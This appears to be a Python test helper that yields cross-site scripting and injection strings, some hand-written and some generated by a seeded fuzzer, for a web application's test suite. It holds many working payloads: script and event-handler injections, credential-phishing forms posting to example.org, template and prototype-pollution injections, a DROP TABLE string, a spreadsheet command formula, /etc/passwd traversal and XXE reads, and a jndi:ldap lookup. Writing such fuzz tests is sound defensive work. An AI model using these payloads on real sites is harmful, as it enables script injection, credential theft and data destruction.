"""Strings that try to become part of a page: attacks that were written down, and as many more as are asked for, put
together from the pieces that such attacks are made of. The same ones every time."""

from __future__ import annotations

import base64
import random

from tests.clients.hostile import PIECES
from tests.nasty import MAKERS

# What an attack does if it runs. The tests look for `pwned`, for dialogs, and for requests to example.org.
DO = "window.pwned=1"
TAGS = [
    "script", "img", "svg", "iframe", "object", "embed", "video", "audio", "body", "input", "select", "textarea", "button",
    "form", "a", "math", "style", "link", "base", "meta", "details", "dialog", "marquee", "table", "template", "noscript",
    "title", "xmp", "plaintext", "listing", "frameset", "isindex", "keygen", "portal", "slot", "foreignObject", "animate",
    "set", "use", "image", "p", "div", "article", "bdi", "h1", "li", "option", "x-y", "error-summary", "out-box", "live-class",
]  # fmt: skip
EVENTS = [
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onstart", "onpageshow", "onbegin", "onanimationend",
    "onpointerenter", "onscroll", "oncut", "onbeforetoggle", "oncontentvisibilityautostatechange", "hx-on:load", "hx-on::load",
]  # fmt: skip
ATTRIBUTES = [
    "src=x", "href=javascript:{do}", "srcdoc='<script>{do}</script>'", "style=position:fixed;inset:0", "autofocus", "open",
    "data=//example.org/x", "http-equiv=refresh content='0;url=//example.org'", "action=//example.org", "formaction=javascript:{do}",
    "xlink:href=javascript:{do}", "background=//example.org/x", "poster=javascript:{do}", "ping=//example.org", "id=main",
    "name=cookie", "class=visually-hidden", "hidden", "dir=rtl", "contenteditable", "tabindex=1", "hx-get=/teach/", "hx-vals='js:{{a:{do}}}'",
    "hx-trigger='load[{do}]'", "is=x-y", "nonce=x", "popover", "accesskey=x",
]  # fmt: skip
BREAKS = [
    "", '"', "'", "`", "'\">", "\">", "-->", "]]>", "</p>", "</bdi>", "</article>", "</textarea>", "</title>", "</script>",
    "</style>", "</svg>", "</option></select>", "</td></tr></table>", "</blockquote></li></ul>", "*/", "\\\"", "\\u0022",
    "}}", "%}", "${", "#{", "<!--", "<![CDATA[", "<?", "&quot;", "&#39;", "&#x3e;", "%3e", "\u00ad", "\u200b", "\ufeff", "\u2028",
]  # fmt: skip
SCHEMES = [
    "javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "\u0001javascript:", "data:text/html,", "vbscript:",
    "data:image/svg+xml;base64,", "blob:", "view-source:", "//example.org/", "https://example.org/?", "\\\\example.org\\",
]  # fmt: skip
WRITTEN = [
    f"<script>{DO}</script>",
    f"<ScRiPt >{DO}</sCrIpT >",
    f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f"<script\n>{DO}</script\n>",
    f"<script/x>{DO}</script>",
    "<script src=//example.org/x.js></script>",
    f"<script type=module>{DO}</script>",
    f"<script>/*</script>*/{DO}//",
    f"<img src=x onerror={DO}>",
    f"<img src=x onerror={DO}//",
    f"<img/src=x/onerror={DO}>",
    f'<img src="x` `<script>{DO}</script>"` `>',
    f"<img src=x:x onerror\n=\n'{DO}'>",
    "<img src=//example.org/pixel>",
    "<img srcset='//example.org/a 1x, //example.org/b 2x'>",
    f"<svg onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{DO}><text y=20>x</text></a>",
    f"<svg><foreignObject><iframe srcdoc='&lt;script&gt;parent.{DO}&lt;/script&gt;'></iframe></foreignObject></svg>",
    f"<svg><style><img src=x onerror={DO}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={DO}>",
    f"<math><a xlink:href=javascript:{DO}>x",
    f"<iframe src=javascript:parent.{DO}></iframe>",
    f"<iframe srcdoc='<script>parent.{DO}</script>'></iframe>",
    f"<object data=javascript:{DO}></object>",
    "<object data=//example.org/x></object>",
    "<embed src=//example.org/x>",
    "<link rel=stylesheet href=//example.org/x.css>",
    "<style>@import '//example.org/x.css';</style>",
    "<style>*{background:url(//example.org/x)}</style>",
    "<base href=//example.org/>",
    "<meta http-equiv=refresh content='0;url=//example.org/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    f"<body onload={DO}>",
    f"<input autofocus onfocus={DO}>",
    f"<details open ontoggle={DO}>x</details>",
    f"<video><source onerror={DO}></video>",
    f"<audio src=x onerror={DO}>",
    f"<marquee onstart={DO}>x</marquee>",
    f"<form><button formaction=javascript:{DO}>x</button></form>",
    "<form action=//example.org/><input name=pin><button>Take my seat</button></form>",
    "</textarea></form><form action=//example.org/ id=stolen>",
    "<textarea><title><noscript><plaintext>",
    f"<noscript><p title=\"</noscript><img src=x onerror={DO}>\">",
    f"<template><script>{DO}</script></template>",
    f"<xmp><img title='</xmp><img src=x onerror={DO}>'>",
    f"<!--><img src=x onerror={DO}>-->",
    f"<!--[if gte IE 4]><script>{DO}</script><![endif]-->",
    f"<![CDATA[<script>{DO}</script>]]>",
    f"<?xml version='1.0'?><script>{DO}</script>",
    f'" autofocus onfocus="{DO}',
    f"' onmouseover='{DO}' x='",
    f"` onclick={DO} `",
    f'"><svg/onload={DO}>',
    f"'-{DO}-'",
    f"\\';{DO}//",
    f"</script><script>{DO}</script>",
    f"</title><script>{DO}</script>",
    f"</style><script>{DO}</script>",
    f"]]></script><script>{DO}</script>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{{ request.session.items }}{% debug %}{% include '/etc/passwd' %}",
    "${window.pwned=1}#{window.pwned=1}<%= window.pwned=1 %>",
    f"javascript:{DO}",
    f"JaVaScRiPt:{DO}//%0a",
    f"data:text/html;base64,{base64.b64encode(b'<script>opener.pwned=1</script>').decode()}",
    f"[x](javascript:{DO}) ![x](//example.org/x) <javascript:{DO}>",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;img src=x onerror={DO}&#62;",
    f"&#x3c;script&#x3e;{DO}&#x3c;/script&#x3e;",
    f"%3Cscript%3E{DO}%3C/script%3E",
    f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{DO}\uff1c/script\uff1e",
    f"\u02c2img src=x onerror={DO}\u02c3",
    f"+ADw-script+AD4-{DO}+ADw-/script+AD4-",
    f"<\x00script>{DO}</script>",
    f"<scr\x00ipt>{DO}</scr\x00ipt>",
    f"<img src=x onerror={DO} \u2028>",
    f"\ud83d\ude00<script>{DO}</script>".encode("utf-16", "surrogatepass").decode("utf-16"),
    "<div hx-get=/teach/ hx-trigger=load>x</div>",
    f"<div hx-on::load='{DO}' hx-on:load='{DO}'>x</div>",
    f"<div hx-get='javascript:{DO}' hx-trigger='load[{DO}]' hx-vals='js:{{x:{DO}}}'>x</div>",
    "<div hx-post=/teach/logout/ hx-trigger=revealed hx-swap-oob=true id=main>x</div>",
    "<p id=main hx-swap-oob=innerHTML>I am the page now</p>",
    "<error-summary>Your PIN has expired</error-summary>",
    "<out-box data-code=x></out-box><live-class data-url=//example.org data-gone=x></live-class>",
    "<a href=//example.org target=_blank>Your instructor asks you to sign in again</a>",
    f"<a href=javascript:{DO}>press me</a>",
    "<h1>The class has been closed</h1>",
    "<input type=password name=pin autofocus>",
    "<form id=test><input name=attributes><input name=children><input id=cookie></form>",
    "<img name=body><img name=getElementById><form name=documentElement>",
    "<p style='position:fixed;inset:0;z-index:9;background:red'>x</p>",
    "</p></li></ul></article></main></body></html>",
    "<table><tr><td></table></article>",
    "<select><option></select><script>window.pwned=1</script>",
    "<ruby><rt><b><i><u><s>",
    "<a><a><a><b><b><i><a></b></i>" * 4,
    "__proto__[pwned]=1&constructor.prototype.pwned=1",
    '{"__proto__": {"pwned": 1}}',
    "'; DROP TABLE deliberation_argument; --",
    "=cmd|' /C calc'!A0",
    "../../../../etc/passwd\x00.png",
    "%0d%0aSet-Cookie: pwned=1%0d%0a%0d%0a<script>window.pwned=1</script>",
    "\r\n\r\n<script>window.pwned=1</script>",
    "data: 1\n\nevent: pwned\ndata: 2\n\n",
    "#{T(java.lang.Runtime).getRuntime()} ${jndi:ldap://example.org/a}",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'> &x;",
    "\x1b[2J\x1b]0;pwned\x07",
]  # fmt: skip


def _spell(chance: random.Random, word: str) -> str:
    """A word with its letters in another case, or one of them written in another way."""
    how = chance.randrange(6)
    if how == 0:
        return "".join(chance.choice([letter.upper(), letter.lower()]) for letter in word)
    if how == 1 and word:
        at = chance.randrange(len(word))
        return word[:at] + chance.choice(["\t", "\n", "\x00", "/", "\u200b", "&#x09;"]) + word[at:]
    if how == 2:
        return "".join(f"&#{ord(letter)};" for letter in word)
    return word


def _tag(chance: random.Random) -> str:
    parts = [_spell(chance, chance.choice(TAGS))]
    for _ in range(chance.randrange(4)):
        if chance.random() < 0.5:
            quote = chance.choice(["", "'", '"', "`"])
            parts.append(f"{_spell(chance, chance.choice(EVENTS))}={quote}{DO}{quote}")
        else:
            parts.append(chance.choice(ATTRIBUTES).replace("{do}", DO).replace("{{", "{").replace("}}", "}"))
    close = chance.choice([">", ">", "/>", " ", "//", "\n>", ">x"])
    return (
        "<"
        + chance.choice(["", "", "", "/", "!", "?", "\x00"])
        + chance.choice([" ", "/", "\n"]).join(parts)
        + close
    )


def _attack(chance: random.Random) -> str:
    made = [chance.choice(BREAKS)]
    for _ in range(chance.randint(1, 3)):
        made.append(
            chance.choice([
                _tag,
                _tag,
                lambda c: c.choice(SCHEMES) + DO,
                lambda c: c.choice(BREAKS),
                lambda c: "".join(c.choices(PIECES, k=c.randint(1, 5))),
                lambda c: c.choice(WRITTEN),
            ])(chance)
        )  # fmt: skip
    return "".join(made)


def generated(seed: int):
    """Strings without an end: for each attack that is put together, one in five of the kinds in `tests/nasty.py`."""
    chance = random.Random(seed)
    kinds = list(MAKERS.values())
    while True:
        yield chance.choice(kinds)(chance) if chance.random() < 0.2 else _attack(chance)
